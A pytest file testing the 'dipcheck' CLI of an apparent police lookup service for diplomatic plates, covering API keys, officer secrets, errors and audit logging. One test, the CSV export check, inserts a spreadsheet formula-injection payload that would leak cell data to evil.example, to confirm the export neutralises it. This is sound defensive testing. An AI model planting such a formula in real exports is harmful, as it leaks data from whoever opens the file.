"""The `dipcheck` command: every command has --help, secrets print once, errors are one line."""

from __future__ import annotations

import csv
import importlib.metadata
import io
import json
import os
import re
import sys
from datetime import UTC, datetime
from pathlib import Path

import click
import pytest
from click.testing import CliRunner, Result

from lookup import create_app
from lookup.audit.records import records
from lookup.cli import _make_app, cli
from lookup.config import SETTINGS_KEY
from lookup.extensions import state_store
from lookup.identity import accounts, sessions
from lookup.store.base import AuditFilter
from tests.factories import DIPLOMAT_PLATE, make_audit_record
from tests.lookup.conftest import AppFactory, bearer

KEY = re.compile(r"dck_[A-Z0-9]{8}_[A-Za-z0-9_-]{43}")


@pytest.fixture
def runner(data_dir: Path, make_app: AppFactory, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    # After make_app, which clears DIPCHECK_* variables: the CLI must see this data directory.
    for name in list(os.environ):
        if name.startswith("DIPCHECK_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("DIPCHECK_DATA_DIR", str(data_dir))
    monkeypatch.setenv("DIPCHECK_LOG_LEVEL", "WARNING")
    return CliRunner()


def run(runner: CliRunner, *args: str, input: str | None = None) -> Result:
    return runner.invoke(cli, list(args), input=input, catch_exceptions=False)


def _commands(group: click.Group, prefix: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    found: list[tuple[str, ...]] = []
    for name, command in group.commands.items():
        found.append((*prefix, name))
        if isinstance(command, click.Group):
            found.extend(_commands(command, (*prefix, name)))
    return found


@pytest.mark.parametrize("path", _commands(cli), ids=" ".join)
def test_every_command_has_help(runner: CliRunner, path: tuple[str, ...]) -> None:
    result = run(runner, *path, "--help")
    assert result.exit_code == 0
    assert "Usage:" in result.output


def test_agency_key_and_lookup_round_trip(
    runner: CliRunner, make_app: AppFactory, data_dir: Path
) -> None:
    app = make_app()  # publishes the small data set into the same data directory
    assert run(runner, "agency", "create", "Metro Police", "--ori", "VA0010000").exit_code == 0
    created = run(runner, "apikey", "create", "--agency", "metro police", "--role", "supervisor")
    assert created.exit_code == 0
    [key] = KEY.findall(created.output)
    assert "shown once" in created.output
    listing = run(runner, "apikey", "list", "--agency", "Metro Police").output
    assert key not in listing
    assert key[4:12] in listing

    client = app.test_client()
    url = f"/api/v1/plates/{DIPLOMAT_PLATE}?reason=traffic_stop"
    assert client.get(url, headers=bearer(key)).status_code == 200

    exported = run(runner, "audit", "export", "--agency", "Metro Police")
    # Newest first: the lookup, then the agency's creation and its key's (administrative acts).
    lines = [json.loads(line) for line in exported.stdout.splitlines()]
    assert [(entry["channel"], entry["action"]) for entry in lines] == [
        ("api", "plate"),
        ("cli", "apikey_create"),
        ("cli", "agency_create"),
    ]
    assert lines[0]["query"] == DIPLOMAT_PLATE
    as_csv = run(runner, "audit", "export", "--format", "csv").stdout
    row = next(row for row in csv.DictReader(io.StringIO(as_csv)) if row["channel"] == "api")
    assert (row["outcome"], row["channel"], row["reason"]) == ("match", "api", "traffic_stop")

    revoked = run(runner, "apikey", "revoke", key[4:12])
    assert revoked.exit_code == 0
    fresh = create_app(data_dir=data_dir, TESTING=True)  # a new process's cache
    assert fresh.test_client().get(url, headers=bearer(key)).status_code == 401


def test_audit_csv_export_defuses_formulas_and_jsonl_keeps_the_text(
    runner: CliRunner, make_app: AppFactory, tmp_path: Path
) -> None:
    from lookup.extensions import state_store
    from lookup.store.audit_record import CSV_COLUMNS

    typed = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    with make_app().app_context():
        state_store().append_audit(
            make_audit_record(
                action="person", query=typed, reason="-2+3", outcome="no_match", detail={}
            )
        )
    target = tmp_path / "audit.csv"
    assert run(runner, "audit", "export", "--format", "csv", "--output", str(target)).exit_code == 0
    with target.open(newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    assert tuple(header) == CSV_COLUMNS
    [row] = [dict(zip(header, cells, strict=True)) for cells in rows]
    assert row["query"] == "'" + typed
    assert row["reason"] == "'-2+3"
    assert row["outcome"] == "no_match"
    assert row["detail"] == "{}"
    [line] = run(runner, "audit", "export").stdout.splitlines()
    as_json = json.loads(line)
    assert (as_json["query"], as_json["reason"]) == (typed, "-2+3")
    assert tuple(as_json) == tuple(header)  # CSV columns are the JSON fields, in order


def test_officer_create_prints_its_secrets_once(runner: CliRunner, data_dir: Path) -> None:
    run(runner, "agency", "create", "Metro Police")
    result = run(runner, "officer", "create", "jdoe", "--agency", "Metro Police")
    assert result.exit_code == 0
    assert re.search(r"password:\s+\S{20}", result.output)
    # A one-time enrolment code, never the TOTP secret itself (shown only after both).
    assert re.search(r"enrolment code:\s+\d{4} \d{4} \d{4}\s+\(one use, 72 hours\)", result.output)
    assert "otpauth://" not in result.output
    with create_app(data_dir=data_dir).app_context():
        officer = accounts.find_officer(state_store(), "jdoe")
        assert officer is not None
        assert officer.totp_secret not in result.output
        stored = state_store().get(accounts.OFFICERS, officer.id)
    assert stored is not None
    code = re.search(r"enrolment code:\s+([\d ]{14})", result.output)
    assert code is not None
    assert code.group(1).replace(" ", "") not in str(stored.data)  # kept only as a hash
    reset = run(runner, "officer", "reset-authenticator", "jdoe")
    assert reset.exit_code == 0, reset.output
    assert "enrolment code:" in reset.output
    typed = run(
        runner,
        "officer",
        "create",
        "asmith",
        "--agency",
        "Metro Police",
        "--role",
        "supervisor",
        "--password-prompt",
        input="a long passphrase\na long passphrase\n",
    )
    assert typed.exit_code == 0
    assert "password:" not in typed.output
    assert run(runner, "officer", "disable", "asmith").exit_code == 0
    assert run(runner, "officer", "unlock", "asmith").exit_code == 0
    changed = run(runner, "officer", "password", "jdoe")
    assert changed.exit_code == 0
    [new_password] = re.findall(r"password: (\S{20})", changed.output)
    app = create_app(data_dir=data_dir, TESTING=True)
    with app.app_context():
        officer = accounts.find_officer(state_store(), "jdoe")
        assert officer is not None
        assert accounts.check_password(officer, new_password)
        assert accounts.find_officer(state_store(), "asmith").disabled  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "args",
    [
        ("apikey", "create", "--agency", "Nowhere PD"),
        ("apikey", "revoke", "ZZZZZZZZ"),
        ("officer", "create", "x", "--agency", "Nowhere PD"),
        ("officer", "unlock", "ghost"),
        ("agency", "create", "Bad ORI", "--ori", "1"),
        ("audit", "export", "--agency", "Nowhere PD"),
    ],
)
def test_errors_exit_non_zero_with_one_line(runner: CliRunner, args: tuple[str, ...]) -> None:
    result = run(runner, *args)
    assert result.exit_code != 0
    lines = result.output.strip().splitlines()
    assert len(lines) == 1
    assert lines[0].startswith("Error: ")


def test_configuration_error_is_one_line(
    runner: CliRunner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DIPCHECK_ELASTICSEARCH_URL", "nonsense")
    result = run(runner, "agency", "list")
    assert result.exit_code != 0
    assert (
        result.output.strip()
        == "Error: DIPCHECK_ELASTICSEARCH_URL: must be an http:// or https:// URL"
    )


def test_bootstrap_publishes_demo_data_and_demo_accounts_once(
    runner: CliRunner, data_dir: Path
) -> None:
    first = run(runner, "bootstrap")
    assert first.exit_code == 0, first.output
    assert "synthetic demo data published" in first.output
    [key] = KEY.findall(first.output)
    assert "enrolment code:" in first.output
    assert "otpauth://totp/" not in first.output
    assert "QR signing key" in first.output
    second = run(runner, "bootstrap")
    assert second.exit_code == 0
    assert "already published" in second.output
    assert not KEY.findall(second.output)
    assert "QR signing key" not in second.output
    app = create_app(data_dir=data_dir, TESTING=True)
    response = app.test_client().get("/readyz")
    assert response.get_json()["index"]["published"] is True
    key_set = app.test_client().get("/.well-known/dipcheck-keys.json").get_json()
    assert [entry["status"] for entry in key_set["keys"]] == ["active"]
    audit = app.test_client().get("/api/v1/audit", headers=bearer(key))
    assert audit.status_code == 200


def test_every_administrative_command_leaves_one_audit_record(
    runner: CliRunner, make_app: AppFactory, data_dir: Path, tmp_path: Path
) -> None:
    import getpass

    from search_index.importer import PERSONS
    from tests.factories import small_dataset, write_dataset_csv

    app = make_app()
    steps = [
        ("agency", "create", "Metro Police"),
        ("apikey", "create", "--agency", "Metro Police"),
        ("officer", "create", "jdoe", "--agency", "Metro Police"),
        ("officer", "disable", "jdoe"),
        ("officer", "disable", "jdoe", "--enable"),
        ("officer", "unlock", "jdoe"),
        ("officer", "password", "jdoe"),
        ("officer", "reset-authenticator", "jdoe"),
        ("officer", "enroll-phone", "jdoe", "+15715550123"),
        ("officer", "enroll-phone", "jdoe", "+15715550123", "--disable"),
    ]
    for step in steps:
        assert run(runner, *step).exit_code == 0, step
    [key_id] = [
        k.split("_")[1]
        for k in KEY.findall(run(runner, "apikey", "create", "--agency", "Metro Police").output)
    ]
    assert run(runner, "apikey", "revoke", key_id).exit_code == 0
    assert run(runner, "apikey", "revoke", key_id).exit_code == 0  # already revoked: no change
    bad = write_dataset_csv(small_dataset(), tmp_path / "bad")
    with (bad / PERSONS).open("a", encoding="utf-8") as handle:
        handle.write("P-BROKEN,,,,\n")
    assert runner.invoke(cli, ["import", str(bad)]).exit_code == 1

    with app.app_context():
        entries = list(records(AuditFilter()))[::-1]  # oldest first
    admin = [e for e in entries if e.channel == "cli"]
    assert [e.action for e in admin] == [
        "agency_create",
        "apikey_create",
        "officer_create",
        "officer_disable",
        "officer_enable",
        "officer_unlock",
        "officer_password",
        "officer_reset_authenticator",
        "phone_enrol",
        "phone_disable",
        "apikey_create",
        "apikey_revoke",
        "import",
    ]
    assert {e.actor for e in admin} == {f"cli:{getpass.getuser()}"}
    assert admin[2].query == "jdoe"
    assert admin[8].query == "jdoe phone ..23"  # never the whole number
    assert "+15715550123" not in str([e.detail for e in admin])
    assert admin[11].query == key_id
    rejected = admin[-1]
    assert rejected.outcome == "denied"
    assert rejected.detail["problems"] >= 1
    assert all(where.startswith("persons.csv:") for where in rejected.detail["where"])


def test_version_is_dipcheck_s(runner: CliRunner) -> None:
    result = run(runner, "--version")
    assert result.exit_code == 0
    assert result.output == f"DipCheck {importlib.metadata.version('dipcheck')}\n"


def test_bootstrap_prints_the_address_and_how_to_enrol(runner: CliRunner) -> None:
    first = run(runner, "bootstrap", "--url", "http://127.0.0.1:8123/")
    assert "Open http://127.0.0.1:8123/login and sign in as demo" in first.output
    assert "scan with an authenticator app" in first.output
    again = run(runner, "bootstrap", "--url", "http://127.0.0.1:8123")
    assert "Open http://127.0.0.1:8123/login" in again.output


def test_reset_authenticator_is_audited_and_ends_sessions(
    runner: CliRunner, data_dir: Path
) -> None:
    run(runner, "agency", "create", "Metro Police")
    run(runner, "officer", "create", "jdoe", "--agency", "Metro Police")
    app = create_app(data_dir=data_dir, TESTING=True)
    with app.app_context():
        officer = accounts.find_officer(state_store(), "jdoe")
        assert officer is not None
        sessions.create_session(
            state_store(),
            officer_id=officer.id,
            agency_id=officer.agency_id,
            agency_name="Metro Police",
            role=officer.role,
            stage="active",
            now=datetime.now(UTC),
        )
    result = run(runner, "officer", "reset-authenticator", "jdoe")
    assert result.exit_code == 0, result.output
    assert "authenticator of jdoe reset" in result.output
    with app.app_context():
        after = accounts.find_officer(state_store(), "jdoe")
        assert after is not None
        assert after.totp_secret != officer.totp_secret
        assert state_store().find(sessions.COLLECTION, officer_id=officer.id) == []
        [entry] = [r for r in records(AuditFilter()) if r.action == "officer_reset_authenticator"]
        assert (entry.query, entry.agency_id) == ("jdoe", officer.agency_id)
        assert entry.actor is not None
        assert entry.actor.startswith("cli:")
    assert run(runner, "officer", "reset-authenticator", "nobody").exit_code != 0


@pytest.mark.parametrize(
    ("command", "tty", "env", "expected"),
    [
        ("run", True, None, "console"),  # a person at a terminal
        ("run", False, None, "json"),  # piped or under a supervisor
        ("run", True, "json", "json"),  # the setting wins
        ("bootstrap", True, None, "json"),
    ],
)
def test_dipcheck_run_logs_for_people_on_a_terminal(
    runner: CliRunner,
    monkeypatch: pytest.MonkeyPatch,
    command: str,
    tty: bool,
    env: str | None,
    expected: str,
) -> None:
    monkeypatch.setattr(sys, "stderr", io.StringIO())
    monkeypatch.setattr(sys.stderr, "isatty", lambda: tty)
    if env is not None:
        monkeypatch.setenv("DIPCHECK_LOG_FORMAT", env)
    with click.Context(click.Command(command), info_name=command):
        app = _make_app()
    assert app.extensions[SETTINGS_KEY].log_format == expected
